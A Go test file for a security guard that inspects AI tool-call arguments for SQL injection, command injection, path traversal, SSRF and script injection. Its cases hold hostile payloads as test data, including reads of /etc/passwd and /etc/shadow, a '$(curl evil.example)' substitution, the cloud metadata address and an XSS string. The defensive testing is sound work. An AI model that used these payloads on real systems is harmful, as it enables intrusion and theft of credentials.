package args_test

import (
	"encoding/json"
	"strings"
	"testing"

	"durward/internal/guard/args"
)

func top(t *testing.T, tool string, a map[string]any, formats map[string]string) args.Finding {
	t.Helper()
	raw, err := json.Marshal(a)
	if err != nil {
		t.Fatal(err)
	}
	found, whole := args.Inspect(tool, raw, formats)
	if !whole {
		t.Errorf("%s: not wholly inspected", raw)
	}
	var best args.Finding
	for _, f := range found {
		if f.Score > best.Score {
			best = f
		}
	}
	return best
}

func TestInspect(t *testing.T) {
	cases := []struct {
		tool, field, value, rule string // no rule: below 0.7
	}{
		{"get_user", "id", "1' OR '1'='1", "sqli"},
		{"get_user", "id", "1%27%20OR%201%3D1--", "sqli"},
		{"get_user", "id", "1 UN/**/ION SEL/**/ECT 1", ""},
		{"get_user", "id", "-1 union/**/select/**/1,password/**/from/**/users", "sqli"},
		{"search", "query", "select the best union for a garden hose", ""},
		{"search", "query", "O'Reilly books or magazines", ""},
		{"execute_sql", "query", "SELECT a FROM t WHERE x = 1 OR 1 = 1", ""},
		{"execute_sql", "query", "SELECT 1; DROP TABLE users", "statement"},
		{"create_issue", "body", "the query `' OR 1=1 --` is not escaped", ""},
		{"ping", "host", "example.org; cat /etc/passwd", "command"},
		{"ping", "host", "example.org", ""},
		{"ping", "host", "-oProxyCommand=id", "command"},
		{"run_command", "command", "git log | head; ls", ""},
		{"resize", "filename", "a.png`id`", "command"},
		{"resize", "filename", "Holiday & family (2024).png", ""},
		{"report", "target", "$(curl evil.example)", "command"},
		{"report", "target", "c''at /etc/hostname", "command"},
		{"read_file", "path", "../../etc/shadow", "traversal"},
		{"read_file", "path", "..%2f..%2fsecret", "traversal"},
		{"read_file", "path", "docs/guide.md", ""},
		{"read_file", "path", "test", ""},
		{"fetch", "url", "http://169.254.169.254/latest/meta-data/", "address"},
		{"fetch", "url", "http://2852039166/", "address"},
		{"fetch", "url", "http://①②⑦.0.0.1/", "address"},
		{"fetch", "url", "http://169。254.１69．254/", "address"},
		{"fetch", "url", "http://ｌｏcal\u00adhost:8080/", ""}, // flagged, as localhost is
		{"fetch", "url", "https://bücher.example/", ""},
		{"fetch", "url", "file:///etc/hosts", ""}, // set below
		{"fetch", "url", "https://example.org/a?b=c", ""},
		{"set_title", "title", "<img src=x onerror=alert(1)>", "script"},
		{"set_title", "title", "Results for <3 and >2", ""},
	}
	for _, c := range cases {
		f := top(t, c.tool, map[string]any{c.field: c.value}, nil)
		got := f.Rule
		if f.Score < 0.7 {
			got = ""
		}
		if c.value == "file:///etc/hosts" {
			if got == "" {
				t.Errorf("%s.%s = %q passes", c.tool, c.field, c.value)
			}
			continue
		}
		if got != c.rule {
			t.Errorf("%s.%s = %q: %+v, want %q", c.tool, c.field, c.value, f, c.rule)
		}
	}
}

func TestSchemaTypesFields(t *testing.T) {
	v := map[string]any{"where": "http://127.0.0.1:9000/"}
	if f := top(t, "call", v, nil); f.Score >= 0.7 {
		t.Errorf("an untyped field: %+v", f)
	}
	if f := top(t, "call", v, map[string]string{"/where": "uri"}); f.Rule != "address" {
		t.Errorf("a field of format uri: %+v", f)
	}
}

func TestNestedLeavesAreSeen(t *testing.T) {
	v := map[string]any{"a": []any{map[string]any{"id": "1' UNION SELECT password FROM users--"}}}
	if f := top(t, "get", v, nil); f.Rule != "sqli" || f.Where != "/a/0/id" {
		t.Errorf("found %+v", f)
	}
}

// What is passed as a word without a closer look is what a closer look passes.
func TestWordsAreHarmless(t *testing.T) {
	for _, v := range []string{"admin", "INV-2026-000123", "12.5", "a.b-c", "0", "DROP", "shutdown", "4111111111111111", "whoami", "8f14e45f-ceea-467f-a0d9-9f2b4c1d7e11"} {
		for _, tool := range []string{"get_invoice", "search", "run_query", "run_command", "add_comment"} {
			raw, _ := json.Marshal(map[string]string{"id": v, "query": v, "command": v, "comment": v, "pattern": v})
			if found, _ := args.Inspect(tool, raw, nil); len(found) > 0 {
				t.Errorf("%s of %s: %+v", tool, v, found)
			}
			raw, _ = json.Marshal(map[string]string{"id": v + " ", "query": v + " ", "comment": v + " "})
			if found, _ := args.Inspect(tool, raw, nil); len(found) > 0 {
				t.Errorf("%s of %s, looked at closely: %+v", tool, v, found)
			}
		}
	}
	raw, _ := json.Marshal(map[string]string{"id": "xp_cmdshell"})
	if found, _ := args.Inspect("get_invoice", raw, nil); len(found) == 0 {
		t.Error("xp_cmdshell was passed as a word")
	}
}

// Nothing hides behind padding, or is passed in silence because it is long.
func TestLongValuesAreJudgedToTheirEnd(t *testing.T) {
	const attack = "1' OR '1'='1' UNION SELECT password FROM users --"
	for _, size := range []int{10_000, 16_000, 16_350, 16_384, 31_000, 100_000, 500_000} {
		pad := strings.Repeat("The report lists rainfall by region and month. ", size/47+1)[:size]
		raw, _ := json.Marshal(map[string]string{"id": pad + attack + pad[:100]})
		found, whole := args.Inspect("get_invoice", raw, nil)
		if !whole || len(found) != 1 || found[0].Rule != "sqli" || found[0].Score < 0.7 {
			t.Errorf("behind %d bytes: %+v, all of it: %v", size, found, whole)
		}
	}
	pad := strings.Repeat("The report lists rainfall by region and month. ", 20_000)
	for name, value := range map[string]string{"id": pad + attack, "path": pad + "../../etc/passwd", "url": "https://a.example/" + pad} {
		raw, _ := json.Marshal(map[string]string{name: value})
		if _, whole := args.Inspect("get_invoice", raw, nil); whole {
			t.Errorf("%s of %d bytes is said to be judged whole", name, len(value))
		}
	}
}
